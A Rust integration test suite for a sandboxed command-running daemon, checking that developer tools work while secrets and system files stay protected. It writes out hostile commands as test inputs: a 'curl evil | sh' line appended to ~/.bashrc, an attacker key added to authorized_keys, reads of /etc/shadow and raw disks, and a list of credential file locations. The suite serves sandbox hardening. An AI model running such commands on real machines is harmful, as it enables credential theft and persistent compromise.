//! The default sandbox as a developer meets it: with no `[sandbox]` configuration,
//! a daemon of an ordinary user whose toolchains and settings live in `$HOME` (a
//! rustup toolchain and crate cache, a tool in `~/.local/bin`, `~/.gitconfig`).
//! Their tools work through `run_command`; every secret location stays unreadable,
//! also to a `grep -r` over the home directory; the home directory outside the caches
//! stays unwritable. And every configured limit holds, or the daemon says it cannot.
//!
//! The user is `toolgate-dev` (created with `useradd` when missing, which needs
//! root); the daemon runs as it through `setpriv`, with a home directory made for the
//! test. Run as a normal user, the tests use that user instead. A test that cannot
//! run here (no Landlock, no toolchain to lend) says what it skipped.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{BufRead, BufReader, Write};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc::{Receiver, RecvTimeoutError};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

const PATIENCE: Duration = Duration::from_secs(120);

/// The normal user the daemon runs as when the tests run as root.
const USER: &str = "toolgate-dev";

/// Who the daemon runs as: `None` as this process.
type Who = Option<(u32, u32)>;

/// The test user, created if missing (as root), or this process's own user.
fn who() -> Result<Who, String> {
    if !nix::unistd::Uid::effective().is_root() {
        return Ok(None);
    }
    if nix::unistd::User::from_name(USER).ok().flatten().is_none() {
        let status = Command::new("useradd")
            .args(["--no-create-home", "--home-dir", "/nonexistent", "--shell", "/bin/sh"])
            .args(["--user-group", USER])
            .status()
            .map_err(|err| format!("useradd: {err}"))?;
        // Another test of this file may have created it meanwhile.
        if !status.success() && nix::unistd::User::from_name(USER).ok().flatten().is_none() {
            return Err(format!("useradd {USER} failed: {status}"));
        }
    }
    let user =
        nix::unistd::User::from_name(USER).ok().flatten().ok_or_else(|| format!("no {USER}"))?;
    Ok(Some((user.uid.as_raw(), user.gid.as_raw())))
}

/// Gives `path` and everything beneath it to `who`, except files with more than one
/// link: those are the toolchain lent by hard links, whose owner is the lender's.
fn chown_tree(path: &Path, who: Who) {
    use std::os::unix::fs::MetadataExt;
    let Some((uid, gid)) = who else { return };
    let metadata = std::fs::symlink_metadata(path).unwrap();
    if metadata.is_file() && metadata.nlink() > 1 {
        return;
    }
    std::os::unix::fs::lchown(path, Some(uid), Some(gid)).unwrap();
    if path.is_dir() && !path.is_symlink() {
        for entry in std::fs::read_dir(path).unwrap() {
            chown_tree(&entry.unwrap().path(), who);
        }
    }
}

/// One `toolgate mcp` over pipes, as `who`, with `home` as its home directory.
struct Daemon {
    child: Child,
    stdin: Option<ChildStdin>,
    lines: Receiver<String>,
    next_id: u64,
    /// What it logged, as far as read.
    log: Vec<String>,
}

impl Daemon {
    /// Starts it with `config` as its explicit configuration, in `root`. `Err`: it
    /// exited before answering `initialize`, with what it printed.
    fn start(
        who: Who,
        dir: &Path,
        home: &Path,
        root: &Path,
        config: &str,
    ) -> Result<Daemon, String> {
        let config_file = dir.join("toolgate.toml");
        std::fs::write(&config_file, config).unwrap();
        for sub in ["config", "state", "run"] {
            std::fs::create_dir_all(dir.join(sub)).unwrap();
            chown_tree(&dir.join(sub), who);
        }
        chown_tree(&config_file, who);
        let binary = env!("CARGO_BIN_EXE_toolgate");
        let mut command = match who {
            None => Command::new(binary),
            Some((uid, gid)) => {
                let mut command = Command::new("setpriv");
                command
                    .arg(format!("--reuid={uid}"))
                    .arg(format!("--regid={gid}"))
                    .arg("--clear-groups")
                    .arg("--")
                    .arg(binary);
                command
            }
        };
        let path = format!(
            "{}:{}:/usr/local/bin:/usr/bin:/bin",
            home.join(".cargo/bin").display(),
            home.join(".local/bin").display()
        );
        command
            .args(["mcp", "--mode", "bypass", "--root"])
            .arg(root)
            .arg("--config")
            .arg(&config_file)
            .current_dir(root)
            .env_clear()
            .env("PATH", path)
            .env("HOME", home)
            .env("XDG_CONFIG_HOME", dir.join("config"))
            .env("XDG_STATE_HOME", dir.join("state"))
            .env("XDG_RUNTIME_DIR", dir.join("run"))
            .env("TOOLGATE_LOG", "warn")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        if let Ok(marker) = std::env::var("TOOLGATE_TEST_RUN") {
            command.env("TOOLGATE_TEST_RUN", marker);
        }
        let mut child = command.spawn().unwrap();
        let stdout = child.stdout.take().unwrap();
        let stderr = child.stderr.take().unwrap();
        let (send, lines) = std::sync::mpsc::channel();
        let errors = send.clone();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { return };
                if send.send(line).is_err() {
                    return;
                }
            }
        });
        // The log, marked, on the same channel: a daemon that refuses to start says why.
        std::thread::spawn(move || {
            for line in BufReader::new(stderr).lines() {
                let Ok(line) = line else { return };
                eprintln!("daemon: {line}");
                if errors.send(format!("log: {line}")).is_err() {
                    return;
                }
            }
        });
        let stdin = child.stdin.take();
        let mut daemon = Daemon { child, stdin, lines, next_id: 1, log: Vec::new() };
        let answer = daemon.request(
            "initialize",
            json!({"protocolVersion": "2025-11-25", "capabilities": {},
                   "clientInfo": {"name": "sandbox-defaults", "version": "1"}}),
        )?;
        assert!(answer.get("result").is_some(), "{answer}");
        daemon.send(&json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
        Ok(daemon)
    }

    fn send(&mut self, message: &Value) {
        let stdin = self.stdin.as_mut().unwrap();
        let _ = stdin.write_all(format!("{message}\n").as_bytes());
        let _ = stdin.flush();
    }

    /// The answer to one request; `Err` with the log when the daemon exited first.
    fn request(&mut self, method: &str, params: Value) -> Result<Value, String> {
        let id = self.next_id;
        self.next_id += 1;
        self.send(&json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}));
        let start = Instant::now();
        loop {
            let left = PATIENCE.saturating_sub(start.elapsed());
            let line = match self.lines.recv_timeout(left) {
                Ok(line) => line,
                Err(RecvTimeoutError::Timeout) => panic!("no answer to {method} (id {id})"),
                Err(RecvTimeoutError::Disconnected) => return Err(self.log.join("\n")),
            };
            if let Some(logged) = line.strip_prefix("log: ") {
                self.log.push(logged.to_owned());
                continue;
            }
            if let Ok(message) = serde_json::from_str::<Value>(&line)
                && message["id"] == json!(id)
            {
                return Ok(message);
            }
        }
    }

    /// Waits (a few seconds at most) for a logged line containing `text`.
    fn logged(&mut self, text: &str) -> bool {
        let start = Instant::now();
        while !self.log.iter().any(|line| line.contains(text)) {
            let Some(left) = Duration::from_secs(5).checked_sub(start.elapsed()) else {
                return false;
            };
            match self.lines.recv_timeout(left) {
                Ok(line) => {
                    if let Some(logged) = line.strip_prefix("log: ") {
                        self.log.push(logged.to_owned());
                    }
                }
                Err(_) => return false,
            }
        }
        true
    }

    /// Runs a shell command and returns the structured result.
    fn run(&mut self, script: &str) -> Value {
        let arguments = json!({"command": script, "timeout_ms": 110_000});
        let answer = self
            .request("tools/call", json!({"name": "run_command", "arguments": arguments}))
            .unwrap_or_else(|log| panic!("the daemon exited: {log}"));
        let result = &answer["result"];
        assert!(result["structuredContent"].is_object(), "{answer}");
        result["structuredContent"].clone()
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        drop(self.stdin.take());
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(10) {
            if let Ok(Some(_)) = self.child.try_wait() {
                return;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn content(result: &Value) -> String {
    result["content"].as_str().unwrap_or_default().to_owned()
}

/// Whether the first call ran in a Landlock sandbox; `Err` says why not.
fn sandbox_in_force(daemon: &mut Daemon) -> Result<(), String> {
    let probe = daemon.run("true");
    match probe["metadata"]["sandbox"].as_str() {
        Some(sandbox) if sandbox.starts_with("landlock") => Ok(()),
        other => Err(format!("no Landlock sandbox in force here (metadata says {other:?})")),
    }
}

/// Links (or, across file systems, copies) `from` to `to`, recursively.
fn link_tree(from: &Path, to: &Path) -> Result<(), String> {
    let linked = Command::new("cp").arg("-al").arg(from).arg(to).status();
    if linked.is_ok_and(|status| status.success()) {
        return Ok(());
    }
    let _ = std::fs::remove_dir_all(to);
    let copied = Command::new("cp").arg("-a").arg(from).arg(to).status();
    match copied {
        Ok(status) if status.success() => Ok(()),
        other => Err(format!("cannot copy {}: {other:?}", from.display())),
    }
}

/// Lends the running Rust toolchain to `home` as rustup lays one out: the toolchain
/// (its programs and libraries) under `~/.rustup/toolchains`, `~/.rustup/settings.toml`,
/// and `~/.cargo/bin/cargo` and `rustc` (rustup's proxies where rustup is here, else
/// links to the toolchain's programs).
fn lend_toolchain(home: &Path) -> Result<(), String> {
    let sysroot = Command::new("rustc")
        .args(["--print", "sysroot"])
        .output()
        .map_err(|err| format!("rustc --print sysroot: {err}"))?;
    let sysroot = PathBuf::from(String::from_utf8_lossy(&sysroot.stdout).trim());
    let name = sysroot
        .file_name()
        .ok_or_else(|| format!("no toolchain name in {}", sysroot.display()))?
        .to_string_lossy()
        .into_owned();
    let toolchain = home.join(".rustup/toolchains").join(&name);
    std::fs::create_dir_all(&toolchain).unwrap();
    for part in ["bin", "lib", "libexec"] {
        if sysroot.join(part).exists() {
            link_tree(&sysroot.join(part), &toolchain.join(part))?;
        }
    }
    let bin = home.join(".cargo/bin");
    std::fs::create_dir_all(&bin).unwrap();
    let rustup = std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
        .map(|dir| dir.join("rustup"))
        .find(|path| path.is_file());
    match rustup {
        Some(rustup) => {
            std::fs::copy(&rustup, bin.join("rustup")).map_err(|err| err.to_string())?;
            for proxy in ["cargo", "rustc"] {
                std::os::unix::fs::symlink("rustup", bin.join(proxy)).unwrap();
            }
            // What `rustup-init` leaves besides the toolchain.
            for made in ["downloads", "tmp", "update-hashes"] {
                std::fs::create_dir_all(home.join(".rustup").join(made)).unwrap();
            }
            std::fs::write(
                home.join(".rustup/settings.toml"),
                format!(
                    "version = \"12\"\ndefault_toolchain = \"{name}\"\nprofile = \"minimal\"\n"
                ),
            )
            .unwrap();
        }
        None => {
            for program in ["cargo", "rustc"] {
                std::os::unix::fs::symlink(toolchain.join("bin").join(program), bin.join(program))
                    .unwrap();
            }
        }
    }
    Ok(())
}

/// Puts one cached crate without dependencies (`itoa`, which this project's own build
/// fetched) in `home`'s crate cache, as cargo left it there: its index entry, its
/// `.crate` file and its unpacked source. Returns its version.
fn cache_a_crate(home: &Path) -> Result<String, String> {
    let cargo_home = std::env::var_os("CARGO_HOME")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|home| PathBuf::from(home).join(".cargo")))
        .ok_or("no CARGO_HOME or HOME")?;
    let registry = cargo_home.join("registry");
    let sources = std::fs::read_dir(registry.join("src"))
        .map_err(|err| format!("no crate cache in {}: {err}", registry.display()))?;
    for index in sources.flatten() {
        let index_name = index.file_name();
        let Ok(crates) = std::fs::read_dir(index.path()) else { continue };
        for krate in crates.flatten() {
            let name = krate.file_name().to_string_lossy().into_owned();
            let Some(version) = name.strip_prefix("itoa-") else { continue };
            let entry = registry.join("index").join(&index_name).join(".cache/it/oa/itoa");
            let file = registry.join("cache").join(&index_name).join(format!("{name}.crate"));
            if !entry.is_file() || !file.is_file() {
                continue;
            }
            let mine = home.join(".cargo/registry");
            let my_index = mine.join("index").join(&index_name);
            std::fs::create_dir_all(my_index.join(".cache/it/oa")).unwrap();
            std::fs::copy(&entry, my_index.join(".cache/it/oa/itoa")).unwrap();
            let config = registry.join("index").join(&index_name).join("config.json");
            if config.is_file() {
                std::fs::copy(&config, my_index.join("config.json")).unwrap();
            }
            std::fs::create_dir_all(mine.join("cache").join(&index_name)).unwrap();
            std::fs::copy(
                &file,
                mine.join("cache").join(&index_name).join(format!("{name}.crate")),
            )
            .unwrap();
            std::fs::create_dir_all(mine.join("src").join(&index_name)).unwrap();
            let copied = Command::new("cp")
                .arg("-a")
                .arg(krate.path())
                .arg(mine.join("src").join(&index_name))
                .status();
            if !copied.is_ok_and(|status| status.success()) {
                return Err(format!("cannot copy {}", krate.path().display()));
            }
            return Ok(version.to_owned());
        }
    }
    Err(format!("no itoa in the crate cache {}", registry.display()))
}

/// Secret locations that are directories by nature: each gets a file inside.
const SECRET_DIRS: &[&str] = &[
    ".ssh",
    ".gnupg",
    ".aws",
    ".azure",
    ".config/gcloud",
    ".kube",
    ".config/gh",
    ".config/hub",
    ".password-store",
    ".local/share/keyrings",
    ".gnome2/keyrings",
    ".mozilla",
    ".config/google-chrome",
    ".config/chromium",
    ".oci",
    ".config/op",
    ".config/rclone",
];

/// The secret locations a developer's home must keep whatever the built-in list says:
/// keys, clouds, clusters, registries' and forges' tokens, password stores, keyrings
/// and browser profiles.
const REQUIRED_SECRETS: &[&str] = &[
    ".ssh",
    ".gnupg",
    ".aws",
    ".azure",
    ".config/gcloud",
    ".kube",
    ".docker/config.json",
    ".netrc",
    ".git-credentials",
    ".config/gh",
    ".npmrc",
    ".pypirc",
    ".cargo/credentials",
    ".cargo/credentials.toml",
    ".password-store",
    ".local/share/keyrings",
    ".mozilla",
    ".config/google-chrome",
    ".config/chromium",
];

/// Every secret location (those required and the built-in list's) made in `home`,
/// each holding `marker`; returns the files to try to read.
fn plant_secrets(home: &Path, marker: &str) -> Vec<PathBuf> {
    let mut files = Vec::new();
    let mut secrets: Vec<&str> = REQUIRED_SECRETS.to_vec();
    secrets
        .extend(toolgate::sandbox::HOME_SECRETS.iter().filter(|s| !REQUIRED_SECRETS.contains(s)));
    for secret in secrets {
        let path = home.join(secret);
        let file = if SECRET_DIRS.contains(&secret) { path.join("secret") } else { path };
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, format!("{marker} in {secret}\n")).unwrap();
        files.push(file);
    }
    files
}

#[test]
fn a_developers_tools_work_and_their_secrets_stay_secret_with_no_configuration() {
    let who = match who() {
        Ok(who) => who,
        Err(reason) => return eprintln!("skipped: {reason}"),
    };
    let tmp = tempfile::tempdir().unwrap();
    let dir = std::fs::canonicalize(tmp.path()).unwrap();
    let home = dir.join("home");
    let project = home.join("project");
    std::fs::create_dir_all(project.join("src")).unwrap();
    if let Err(reason) = lend_toolchain(&home) {
        return eprintln!("skipped: no Rust toolchain to lend the user: {reason}");
    }
    let version = match cache_a_crate(&home) {
        Ok(version) => version,
        Err(reason) => return eprintln!("skipped: no cached crate to lend the user: {reason}"),
    };
    std::fs::write(
        project.join("Cargo.toml"),
        "[package]\nname = \"project\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
         [dependencies]\nitoa = \"1\"\n",
    )
    .unwrap();
    std::fs::write(
        project.join("src/main.rs"),
        "fn main() { println!(\"{}\", itoa::Buffer::new().format(42)); }\n\
         #[test]\nfn formats() { assert_eq!(itoa::Buffer::new().format(7), \"7\"); }\n",
    )
    .unwrap();
    // A tool of pipx's or uv's kind, with its data in ~/.local/share; git's settings.
    std::fs::create_dir_all(home.join(".local/bin")).unwrap();
    std::fs::create_dir_all(home.join(".local/share/devtool")).unwrap();
    std::fs::write(home.join(".local/share/devtool/data"), "devtool data\n").unwrap();
    let tool = home.join(".local/bin/devtool");
    std::fs::write(&tool, "#!/bin/sh\ncat \"$HOME/.local/share/devtool/data\"\n").unwrap();
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(
        home.join(".gitconfig"),
        "[user]\n\tname = Dev Eloper\n\temail = dev@example.com\n",
    )
    .unwrap();
    std::fs::write(home.join(".bashrc"), "# the user's shell start-up\n").unwrap();
    std::fs::create_dir_all(home.join(".cache")).unwrap();
    let marker = format!("SECRET{}x{}", std::process::id(), rand_suffix());
    let secrets = plant_secrets(&home, &marker);
    chown_tree(&dir, who);

    let mut daemon = Daemon::start(who, &dir, &home, &project, "").unwrap();
    if let Err(reason) = sandbox_in_force(&mut daemon) {
        return eprintln!("skipped: {reason}");
    }

    // The first things a coding agent runs.
    let version_check = daemon.run("cargo --version");
    assert_eq!(version_check["ok"], json!(true), "{version_check}");
    assert!(content(&version_check).starts_with("cargo "), "{version_check}");
    let build = daemon.run("cargo build --offline 2>&1 && ./target/debug/project");
    assert_eq!(build["ok"], json!(true), "{build}");
    assert!(content(&build).contains(&format!("Compiling itoa v{version}")), "{build}");
    assert!(content(&build).contains("\n42\n"), "{build}");
    let test = daemon.run("cargo test --offline 2>&1");
    assert_eq!(test["ok"], json!(true), "{test}");
    assert!(content(&test).contains("test formats ... ok"), "{test}");
    let devtool = daemon.run("devtool");
    assert_eq!(devtool["ok"], json!(true), "{devtool}");
    assert!(content(&devtool).contains("devtool data"), "{devtool}");
    let git = daemon
        .run("git init -q . && git commit -q --allow-empty -m first && git log -1 --format=%an");
    assert_eq!(git["ok"], json!(true), "{git}");
    assert!(content(&git).contains("Dev Eloper"), "{git}");

    // Every secret location, one by one and all at once.
    for secret in &secrets {
        let read = daemon.run(&format!("cat '{}'", secret.display()));
        assert_eq!(read["ok"], json!(false), "{}: {read}", secret.display());
        assert!(!content(&read).contains(&marker), "{}: {read}", secret.display());
    }
    let grep = daemon.run(&format!("grep -r {marker} \"$HOME\"; true"));
    assert_eq!(grep["ok"], json!(true), "{grep}");
    assert!(!content(&grep).contains(&format!("{marker} in")), "{grep}");
    assert!(content(&grep).contains("Permission denied"), "{grep}");

    // Writes: the caches yes, the rest of the home directory no.
    let cache = daemon.run("echo cached > ~/.cache/entry && cat ~/.cache/entry");
    assert_eq!(cache["ok"], json!(true), "{cache}");
    for (what, script, path) in [
        ("~/.bashrc", "echo 'curl evil | sh' >> ~/.bashrc", home.join(".bashrc")),
        (
            "~/.ssh/authorized_keys",
            "echo 'ssh-ed25519 AAAA evil' >> ~/.ssh/authorized_keys",
            home.join(".ssh/authorized_keys"),
        ),
        ("a new file in ~", "echo x > ~/new-file", home.join("new-file")),
        ("~/.local/bin", "echo x > ~/.local/bin/evil", home.join(".local/bin/evil")),
        ("~/.cargo/bin", "echo x > ~/.cargo/bin/evil", home.join(".cargo/bin/evil")),
        ("~/.gitconfig", "git config --global core.pager evil", home.join(".gitconfig")),
    ] {
        let before = std::fs::read(&path).ok();
        let write = daemon.run(script);
        assert_eq!(write["ok"], json!(false), "{what}: {write}");
        assert_eq!(std::fs::read(&path).ok(), before, "{what} was written: {write}");
    }
}

#[test]
fn a_limit_that_cannot_be_enforced_is_said_at_start_and_refuses_start_when_required() {
    let who = match who() {
        Ok(who) => who,
        Err(reason) => return eprintln!("skipped: {reason}"),
    };
    let tmp = tempfile::tempdir().unwrap();
    let dir = std::fs::canonicalize(tmp.path()).unwrap();
    let (home, root) = (dir.join("home"), dir.join("home/project"));
    std::fs::create_dir_all(&root).unwrap();
    chown_tree(&dir, who);
    let limit = "max_memory_mb = 100";

    // Not required: it starts, and says at once that the limit does not hold.
    let mut daemon =
        Daemon::start(who, &dir, &home, &root, &format!("[sandbox]\n{limit}\n")).unwrap();
    let probe = daemon.run("true");
    if probe["metadata"]["containment"] == json!("cgroup") {
        return eprintln!(
            "skipped: the daemon's user has per-call cgroups here, so the memory limit can be \
             enforced: {probe}"
        );
    }
    assert!(daemon.logged(&format!("{limit}: no per-call cgroups")), "{:?}", daemon.log);
    assert!(daemon.logged("the limit is not enforced"), "{:?}", daemon.log);
    drop(daemon);

    // Required: it refuses to start, with the reason in one line; check-config agrees.
    let config = format!("[sandbox]\nrequired = true\n{limit}\n");
    let log = match Daemon::start(who, &dir, &home, &root, &config) {
        Ok(_) => panic!("the daemon started with a required limit it cannot enforce"),
        Err(log) => log,
    };
    let refusal =
        format!("the sandbox is required ([sandbox] required = true) but [sandbox] {limit}");
    assert!(log.contains(&refusal), "{log}");
    let binary = env!("CARGO_BIN_EXE_toolgate");
    let mut check = match who {
        None => Command::new(binary),
        Some((uid, gid)) => {
            let mut command = Command::new("setpriv");
            command.args([format!("--reuid={uid}"), format!("--regid={gid}")]);
            command.args(["--clear-groups", "--", binary]);
            command
        }
    };
    let checked = check
        .arg("check-config")
        .arg("--config")
        .arg(dir.join("toolgate.toml"))
        .current_dir(&root)
        .env("HOME", &home)
        .env("XDG_CONFIG_HOME", dir.join("config"))
        .env("XDG_STATE_HOME", dir.join("state"))
        .env("XDG_RUNTIME_DIR", dir.join("run"))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&checked.stderr);
    assert!(!checked.status.success(), "{checked:?}");
    assert!(stderr.contains(&refusal), "{stderr}");
}

#[test]
fn a_root_daemons_commands_read_neither_the_systems_secrets_nor_its_devices() {
    if !nix::unistd::Uid::effective().is_root() {
        return eprintln!("skipped: the tests do not run as root");
    }
    let tmp = tempfile::tempdir().unwrap();
    let dir = std::fs::canonicalize(tmp.path()).unwrap();
    let (home, root) = (dir.join("home"), dir.join("home/project"));
    std::fs::create_dir_all(&root).unwrap();
    let mut daemon = Daemon::start(None, &dir, &home, &root, "").unwrap();
    if let Err(reason) = sandbox_in_force(&mut daemon) {
        return eprintln!("skipped: {reason}");
    }
    let mut refused = vec!["cat /etc/shadow".to_owned(), "ls /root".to_owned()];
    for secret in ["/etc/gshadow", "/etc/sudoers", "/etc/ssl/private"] {
        if Path::new(secret).exists() {
            refused.push(format!("ls -l {secret} && cat {secret}"));
        }
    }
    // A block device: as root, and through it the disk beneath every root.
    let block = std::fs::read_dir("/sys/class/block")
        .into_iter()
        .flatten()
        .flatten()
        .map(|entry| Path::new("/dev").join(entry.file_name()))
        .find(|device| device.exists());
    match &block {
        Some(device) => refused.push(format!("head -c 512 {} >/dev/null", device.display())),
        None => eprintln!("no block device here to try to read"),
    }
    for script in &refused {
        let result = daemon.run(script);
        assert_eq!(result["ok"], json!(false), "{script}: {result}");
    }
    // No device node made inside a root: not a loop device leading to the disk, not a
    // TUN device sending past the network setting.
    for (what, script) in [("block", "mknod ./blk b 7 0"), ("tun", "mknod ./tun c 10 200")] {
        let result = daemon.run(script);
        assert_eq!(result["ok"], json!(false), "{what}: {result}");
        assert!(!root.join(if what == "block" { "blk" } else { "tun" }).exists(), "{what}");
    }
    let allowed = daemon.run(
        "head -c 8 /dev/urandom | wc -c && echo x > /dev/null && cat /etc/hostname >/dev/null \
         && echo fine",
    );
    assert_eq!(allowed["ok"], json!(true), "{allowed}");
    assert!(content(&allowed).contains("fine"), "{allowed}");
}

/// A few random characters: the marker is unique to this run.
fn rand_suffix() -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|elapsed| elapsed.subsec_nanos())
        .unwrap_or_default();
    format!("{nanos:x}")
}
